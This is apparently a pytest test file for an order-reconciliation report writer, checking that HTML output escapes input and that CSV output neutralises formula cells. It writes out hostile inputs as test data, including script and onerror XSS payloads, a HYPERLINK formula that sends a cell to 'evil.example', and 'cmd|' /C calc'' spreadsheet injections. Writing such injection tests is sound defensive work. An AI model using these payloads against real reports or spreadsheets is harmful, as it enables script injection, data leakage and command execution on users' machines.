"""Reports cannot be injected: input text reaches the HTML as text and the CSV as data."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orderkit.model.money import Money
from orderkit.reconcile import Record, Rejected, reconcile
from orderkit.reconcile.readers import BankColumns, read_bank_csv, read_erp_csv
from orderkit.reconcile.report import render_html, spreadsheet_safe, write_csv, write_html
from orderkit.testing.browser import PageParts, browser_dom

ROOT = Path(__file__).parents[3]
ERP = ROOT / "tests" / "fixtures" / "reconcile" / "erp_2026-02-16.csv"

SCRIPT = "<script>alert(1)</script>"
PWN = "<script>document.body.setAttribute('data-pwned', 'yes')</script>"
CELL = '<td onclick="alert(2)">SO20260216000899</td>'
IMAGE = "<img src=x onerror=alert(3)>"

#: Every element and attribute the report writer itself produces.
REPORT_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "h3",
    "p",
    "table",
    "tr",
    "th",
    "td",
}
REPORT_ATTRIBUTES = {"lang", "charset", "class"}


def _hostile_bank_statement(path: Path) -> Path:
    rows = [
        ("交易流水号", "交易时间", "贷方金额", "借方金额", "摘要"),
        (f"CMB-1{SCRIPT}", "2026/02/17 09:30", "99.00", "", f"货款 {SCRIPT}{PWN}"),
        (CELL, "2026/02/17 09:31", "12.00", "", f"{CELL} {IMAGE}"),
        (f"CMB-3{PWN}", "2026/02/17 09:40", IMAGE, "", "转账"),
    ]
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return path


def _hostile_result(tmp_path: Path) -> object:
    bank = read_bank_csv(
        _hostile_bank_statement(tmp_path / "bank.csv"),
        columns=BankColumns(
            record_id="交易流水号",
            at="交易时间",
            amount=None,
            credit="贷方金额",
            debit="借方金额",
            memo="摘要",
        ),
        date_format="%Y/%m/%d %H:%M",
    )
    return reconcile(read_erp_csv(ERP), bank)


def test_bank_memo_with_a_script_is_shown_as_text(tmp_path: Path, chromium: str) -> None:
    result = _hostile_result(tmp_path)
    page = write_html(result, tmp_path / "report.html")  # type: ignore[arg-type]
    html = page.read_text(encoding="utf-8")

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;td onclick=&quot;alert(2)&quot;&gt;SO20260216000899&lt;/td&gt;" in html
    assert SCRIPT not in html and "<td onclick" not in html and "<img" not in html
    parsed = PageParts(html)
    assert set(parsed.tags) <= REPORT_TAGS
    assert parsed.attributes <= REPORT_ATTRIBUTES
    for shown in (f"CMB-1{SCRIPT}", CELL, IMAGE):
        assert shown in parsed.text

    # The page as a browser builds it: no element from the input, the text as text.
    dom = browser_dom(chromium, page, tmp_path / "profile")
    seen = PageParts(dom)
    assert "script" not in seen.tags and "img" not in seen.tags
    assert seen.attributes <= REPORT_ATTRIBUTES  # no onclick, no data-pwned
    assert f"CMB-1{SCRIPT}" in seen.text
    assert CELL in seen.text
    assert IMAGE in seen.text  # the rejected amount cell, shown as it was read


def test_formula_cells_are_neutralised_in_the_csv_report(tmp_path: Path) -> None:
    at = datetime(2026, 2, 16, 10, 0, tzinfo=UTC)
    formulas = {
        '=HYPERLINK("http://evil.example/?"&A1,"open")': "memo",
        "+cmd|' /C calc'!A0": "record_id",
        "-2+3+cmd|' /C calc'!A0": "ref",
        "@SUM(1+9)*cmd|' /C calc'!A0": "memo",
        "\t=1+1": "memo",
        "\r=1+1": "memo",
    }
    left = [
        Record(
            "erp",
            "SO-1",
            "SO-1",
            Money("-12.50", "CNY"),
            at,
            memo='=HYPERLINK("http://evil.example/?"&A1,"open")',
            kind="refund",
        ),
        Record(
            "erp",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            Money("8.00", "CNY"),
            at,
            memo="@SUM(1+9)*cmd|' /C calc'!A0",
        ),
        Record("erp", "SO-3", None, Money("1.00", "CNY"), at, memo="\t=1+1"),
        Record("erp", "SO-4", None, Money("2.00", "CNY"), at, memo="\r=1+1"),
    ]
    right = [
        Rejected("bank", "bank.csv", 7, "贷方金额", "=1+1", "not an amount", "-SO-9,=1+1"),
    ]
    out = write_csv(reconcile(left, right), tmp_path / "report.csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))

    cells = [cell for row in rows for cell in row.values()]
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for cell in cells:
        if cell.startswith(dangerous):  # only plain numbers may start with a formula prefix
            assert Decimal(cell).is_finite(), cell
    for text, column in formulas.items():
        assert any(row[column] == "'" + text for row in rows), (text, column)
    refund = next(row for row in rows if row["record_id"] == "SO-1")
    assert refund["amount"] == "-12.50"  # a negative amount stays a number
    rejected = next(row for row in rows if row["status"] == "rejected")
    assert rejected["memo"] == "'-SO-9,=1+1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0=1", "'\0=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1E+3", "-1E+3"),
        ("-1+2", "'-1+2"),
        ("- 12.50", "'- 12.50"),
        ("12=3", "12=3"),
        ("'=1", "'=1"),
        ("乌龙茶 x2", "乌龙茶 x2"),
        ("", ""),
    ],
)
def test_only_cells_a_spreadsheet_would_evaluate_get_a_quote(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


HOSTILE = [*"<>&\"'=/ x", "<td ", "<script>", "</td>", " onclick=", "&lt;"]
#: What a bill's rejected line may quote (a NUL byte included, as the file had it).
hostile_text = st.lists(st.sampled_from([*HOSTILE, "\0"]), min_size=1, max_size=12).map("".join)
#: What a record's id and reference may hold: text a store holds (no NUL).
hostile_id = st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=12).map("".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(record_id=hostile_id, ref=hostile_id, value=hostile_text, reason=hostile_text)
def test_no_input_text_adds_an_element_or_an_attribute_to_the_html(
    record_id: str, ref: str, value: str, reason: str
) -> None:
    at = datetime(2026, 2, 16, 10, 0, tzinfo=UTC)
    record_id = "R" + record_id  # record ids are not blank
    left = [Record("erp", record_id, ref, Money("10.00", "CNY"), at)]
    right = [
        Record("bank", ref + record_id, None, Money("9.00", "CNY"), at),
        Rejected("bank", value, 3, value, value, reason, value),
    ]
    page = PageParts(render_html(reconcile(left, right)))
    assert set(page.tags) <= REPORT_TAGS
    assert page.attributes <= REPORT_ATTRIBUTES
    assert record_id in page.text and value in page.text and reason in page.text
